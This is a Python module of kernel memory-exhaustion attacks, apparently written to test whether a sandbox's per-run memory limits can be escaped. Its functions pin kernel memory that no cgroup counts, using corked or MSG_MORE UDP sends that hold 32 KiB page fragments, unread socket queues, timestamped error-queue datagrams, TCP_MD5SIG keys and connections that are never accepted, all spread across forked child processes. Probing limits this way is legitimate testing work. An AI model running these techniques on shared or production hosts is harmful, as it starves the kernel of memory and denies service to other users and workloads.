"""Attacks that keep memory in sockets of the kernel, where no limit of a run counts it.

What is sent lies in pieces of pages of 32 KiB, which a task's sockets fill one after the other: a
byte of which the rest has been given away keeps all 32 KiB, and counts as one (skbuff.c,
skb_page_frag_refill). So buffers that are small hold much.
"""

import os
import signal
import socket
import struct
import time

PAGE_BYTES = 32_768
PIECES = 16
"""Of pages, in one buffer of the kernel (MAX_SKB_FRAGS is 17)."""
SO_TIMESTAMPING, TX_SCHED = 37, 1 << 8
TCP_MD5SIG, KEY_BYTES = 14, 192
"""What the kernel takes for a key of 136 bytes (kmalloc-192), up to `net.core.optmem_max`."""
KEPT_FREE = 30
"""Descriptors that a process has for other things."""


def datagrams_held_back(*, job, address="127.0.0.1", **_):
    """Begin datagrams (MSG_MORE, send(2)) that are never finished, in as many sockets as may be."""
    return _by_children(job, lambda: _hold_back(job, address))


def datagrams_held_back_to_nowhere(*, job, **_):
    """Address 0.0.0.0 is this host (ip(7)), whether it has a loopback that is up or not."""
    return datagrams_held_back(job=job, address="0.0.0.0")


def datagrams_corked(*, job, **_):
    """Have the socket hold back what is sent (UDP_CORK, udp(7))."""
    return _by_children(job, lambda: _hold_back(job, "0.0.0.0", is_corked=True))


def datagrams_nobody_reads(*, job, **_):
    """Fill the queues of sockets that are never read."""
    return _by_children(job, lambda: _leave_unread(job))


def datagrams_that_come_back(*, job, **_):
    """Have each come back with its time of sending, and never look (the error queue, ip(7))."""
    return _by_children(job, lambda: _have_come_back(job))


def keys_of_signatures(*, job, **_):
    """Give sockets that are connected to nobody keys for their peers (TCP_MD5SIG, tcp(7))."""
    return _by_children(job, lambda: _keep_keys(job))


def connections_nobody_accepts(*, job, **_):
    """Send to a listener that accepts nothing: before accept(2) a connection is no cgroup's."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
    held, sent, clients = 0, 0, []
    for _ in range(job.open_files - KEPT_FREE):
        client = socket.create_connection(listener.getsockname(), timeout=2)
        client.setblocking(False)
        clients.append(client)
        sent = _sent_until_full(client)
        held += sent
    time.sleep(job.hold_s)
    return {"worked": held >= job.memory_mb << 20, "held": held}


def _hold_back(job, address, *, is_corked=False):
    held, kept = 0, []
    more = 0 if is_corked else socket.MSG_MORE
    for _ in range(job.open_files - KEPT_FREE):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if is_corked:
            sock.setsockopt(socket.IPPROTO_UDP, 1, 1)
        kept.append(sock)
        for _ in range(PIECES):
            sock.sendto(b"x", more, (address, 9))
            held += PAGE_BYTES
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as rest:  # is thrown away
                if is_corked:
                    rest.setsockopt(socket.IPPROTO_UDP, 1, 1)
                rest.sendto(b"x", more, (address, 9))
                rest.sendto(bytes(PAGE_BYTES - 2), more, (address, 9))
    return held, kept


def _leave_unread(job):
    held, kept = 0, []
    writer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(job.open_files - KEPT_FREE):
        reader = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        reader.bind(("127.0.0.1", 0))
        kept.append(reader)
        for _ in range(3):
            held += writer.sendto(bytes(60_000), socket.MSG_DONTWAIT, reader.getsockname())
    return held, kept


def _have_come_back(job):
    held, kept = 0, []
    at_sending = [(socket.SOL_SOCKET, SO_TIMESTAMPING, struct.pack("I", TX_SCHED))]
    for _ in range(job.open_files - KEPT_FREE):
        kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        for _ in range(3):
            held += kept[-1].sendmsg([bytes(60_000)], at_sending, 0, ("0.0.0.0", 9))
    return held, kept


def _keep_keys(job):
    held, kept = 0, []
    for _ in range(job.open_files - KEPT_FREE):
        kept.append(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
        for number in range(900):
            peer = struct.pack("=H2xI", socket.AF_INET, number + 1) + bytes(120)
            key = struct.pack("=BBHi80s", 0, 0, 1, 0, b"k")
            kept[-1].setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, peer + key)
            held += KEY_BYTES
    return held, kept


def _sent_until_full(client):
    sent = 0
    try:
        while True:
            sent += client.send(bytes(1 << 20))
    except BlockingIOError:
        return sent


def _by_children(job, hold):
    """Let as many processes as may be hold what each can, for a while."""
    held, pids, ready = 0, [], []
    try:
        for _ in range(job.processes - 4):
            read, write = os.pipe()
            pid = os.fork()
            if pid == 0:
                _be_child(job, hold, write)
            os.close(write)
            pids.append(pid)
            ready.append(read)
        for read in ready:
            held += int(os.read(read, 32) or 0)
        time.sleep(job.hold_s)
    finally:
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return {"worked": held >= job.memory_mb << 20, "held": held}


def _be_child(job, hold, write):
    try:
        held, _kept = hold()
        os.write(write, b"%d" % held)
        time.sleep(job.hold_s + 5)
    finally:
        os._exit(0)
